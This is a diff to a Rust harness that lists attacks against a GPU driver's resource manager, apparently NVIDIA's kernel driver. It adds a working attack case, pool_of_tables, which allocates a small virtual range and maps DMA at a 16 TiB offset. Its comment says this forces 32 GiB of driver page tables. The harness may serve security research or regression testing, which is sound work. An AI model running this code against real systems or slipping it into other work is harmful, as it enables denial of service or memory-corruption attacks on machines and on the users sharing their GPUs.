@@ -17,6 +17,8 @@ attacks! {
         Passes, Gpu, page_of_other_kind;
     "shared data's page mapped for the GPU (RM_MAP_MEMORY_DMA)": "mem.c:memGetMemInterMapParams_IMPL",
         Passes, Told, shared_page;
+    "the driver's pool of page tables (RM_MAP_MEMORY_DMA)": "mapping.c:serverInterMap_Prologue",
+        Passes, Gpu, pool_of_tables;
     "unmapped memory that the GPU still reaches (DEFER_TLB_INVALIDATION)": "virt_mem_allocator_gm107.c:dmaFreeMapping_GM107",
         Passes, Gpu, stale_translation;
     "freed memory that the GPU still reads (ACCESS_READ_ONLY)": "rs_client.c:_unmapInterMapping",
@@ -46,6 +48,19 @@ attacks! {
 fn range(a: &Attacker, handle: u32) -> Verdict {
     let made = a.alloc(rm::DEVICE_HANDLE, handle, 0x70, &mut [0; 24]);
     a.prepare("a range of addresses", made)
+}
+
+/// Page tables for 16 TiB are 32 GiB. The range has 2 MiB, and so has the memory.
+fn pool_of_tables(a: &Attacker) -> Verdict {
+    const RANGE: u32 = OWN + 4;
+    a.memory(OWN, 2 * MIB)?;
+    let mut params = rm::memory_params(a.client.handle, 2 * MIB);
+    // NVOS32_ALLOC_FLAGS_VIRTUAL.
+    put_u32(&mut params, 8, 0x8_0000);
+    put_u32(&mut params, 24, 0);
+    let made = a.alloc(rm::DEVICE_HANDLE, RANGE, 0x50a0, &mut params);
+    a.prepare("a range of addresses", made)?;
+    a.map_dma((OWN, RANGE), 1 << 44, 0).map(drop)
 }
 
 /// A compute object's page is a place in the GPU's memory by the kind of page of the range
